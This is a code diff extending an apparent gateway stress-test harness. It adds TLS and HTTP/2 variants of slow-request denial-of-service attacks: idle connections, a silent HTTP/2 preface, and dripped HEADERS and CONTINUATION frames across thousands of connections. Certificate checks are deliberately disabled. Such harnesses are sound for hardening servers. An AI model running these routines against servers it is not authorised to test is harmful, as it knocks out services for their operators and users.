@@ -10,6 +10,7 @@ from __future__ import annotations
 import asyncio
 import os
 import socket
+import ssl
 import sys
 import time
 from collections.abc import Awaitable, Callable, Coroutine
@@ -49,6 +50,9 @@ class Hostile:
         self.sock.setblocking(False)
         await self.loop.sock_connect(self.sock, (HOST, self.port))
 
+    def close(self) -> None:
+        self.sock.close()
+
     async def send(self, data: bytes) -> None:
         await self.loop.sock_sendall(self.sock, data)
 
@@ -82,6 +86,44 @@ class Hostile:
             await asyncio.sleep(pause)
 
 
+class Secure(Hostile):
+    """The same over TLS. The certificate is not looked at, because an attacker does not care whom it attacks."""
+
+    protocol = "http/1.1"
+    writer: asyncio.StreamWriter | None = None
+
+    async def dial(self, *, receive_buffer: int = 0) -> None:
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+        context.set_alpn_protocols([self.protocol])
+        self.reader, self.writer = await asyncio.open_connection(HOST, self.port, ssl=context, limit=BLOCK)
+
+    def close(self) -> None:
+        if self.writer is not None:
+            self.writer.transport.abort()
+
+    async def send(self, data: bytes) -> None:
+        assert self.writer is not None
+        self.writer.write(data)
+        await self.writer.drain()
+
+    async def take(self, size: int = BLOCK) -> bytes:
+        data = await self.reader.read(size)
+        if not data:
+            raise ConnectionError("the gateway ended it")
+        return data
+
+
+class Http2(Secure):
+    """The same in frames."""
+
+    protocol = "h2"
+
+    async def dial(self, *, receive_buffer: int = 0) -> None:
+        await super().dial()
+        await self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
+
+
 async def pipeline_unread(one: Hostile) -> None:
     burst = get("/") * 200
     while True:
@@ -103,11 +145,25 @@ async def pipeline_read(one: Hostile) -> None:
 
 
 async def silent(one: Hostile) -> None:
-    await one.hold()
+    await one.swallow()
+
+
+async def idle(one: Hostile) -> None:
+    await one.exchange(get("/"))
+    await one.swallow()
 
 
 async def dripping_heads(one: Hostile) -> None:
     await one.drip(get("/", f"X-Drip: {'x' * 30000}"), 0.02)
+
+
+async def dripping_frames(one: Hostile) -> None:
+    """A HEADERS frame without an end, then one CONTINUATION, byte by byte."""
+    block = bytes([0x82, 0x86, 0x84, 0x41, 1]) + b"a" + b"\0\1x\x7f\x81\x7d" + b"x" * 16_000
+    await one.send(bytes([0, 0, 5, 1, 1, 0, 0, 0, 1]) + block[:5])
+    rest = block[5:]
+    await one.send(len(rest).to_bytes(3, "big") + bytes([9, 4, 0, 0, 0, 1]))
+    await one.drip(rest, 0.05)
 
 
 async def slow_upload(one: Hostile) -> None:
@@ -174,14 +230,19 @@ class Attack:
     sentence: str
     connections: int
     run: Callable[[Hostile], Coroutine[Any, Any, None]]
+    over: type[Hostile] = Hostile
 
 
 ATTACKS = {
     "pipeline-unread": Attack("pipelines requests and reads no response", 60, pipeline_unread),
     "refused-unread": Attack("the same with requests that get 401", 60, refused_unread),
     "pipeline-read": Attack("pipelines requests that get 401, and reads", 60, pipeline_read),
-    "silent": Attack("opens connections and says nothing", 2000, silent),
-    "dripping-heads": Attack("sends heads of 30 KB byte by byte", 300, dripping_heads),
+    "silent": Attack("opens connections and says nothing", 5000, silent),
+    "idle-tls": Attack("sends one request over TLS, then stays idle", 5000, idle, Secure),
+    "silent-http2": Attack("says nothing behind the preface of HTTP/2", 5000, silent, Http2),
+    "dripping-heads": Attack("sends heads of 30 KB byte by byte", 500, dripping_heads),
+    "dripping-tls": Attack("the same over TLS", 500, dripping_heads, Secure),
+    "dripping-http2": Attack("sends heads of 16 KB in HTTP/2 byte by byte", 500, dripping_frames, Http2),
     "slow-upload": Attack("uploads one byte a second", 300, slow_upload),
     "slow-reader": Attack("reads a large response at one byte a second", 300, slow_reader),
     "read-ahead": Attack("sends without end behind a request that hangs", 60, read_ahead),
@@ -195,11 +256,11 @@ ATTACKS = {
 
 async def keep(attack: Attack, port: int, number: int) -> None:
     while True:
-        one = Hostile(port, number)
+        one = attack.over(port, number)
         with suppress(OSError):
             await one.dial()
             await attack.run(one)
-        one.sock.close()
+        one.close()
         await asyncio.sleep(0.25)
 
 
